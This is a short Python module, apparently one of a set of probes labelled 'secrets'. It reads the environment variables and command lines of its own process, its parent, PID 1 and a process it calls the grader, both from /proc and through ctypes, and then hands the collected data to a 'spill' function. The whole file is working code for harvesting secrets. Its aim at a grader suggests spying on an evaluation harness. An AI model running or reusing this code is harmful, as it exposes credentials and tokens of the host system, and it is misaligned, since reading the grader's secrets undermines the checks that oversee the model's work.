"""Reads the environment: its own, its parent's, the grader's."""

GROUP = "secrets"
import os

take(dict(os.environ))
for who in ("self", os.getppid(), 1, KNOWN["grader"]):
    for name in ("environ", "cmdline"):
        try:
            take(open(f"/proc/{who}/{name}", "rb").read())
        except OSError:
            pass
import ctypes

environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
while environ and environ[index]:
    take(environ[index])
    index += 1
spill()
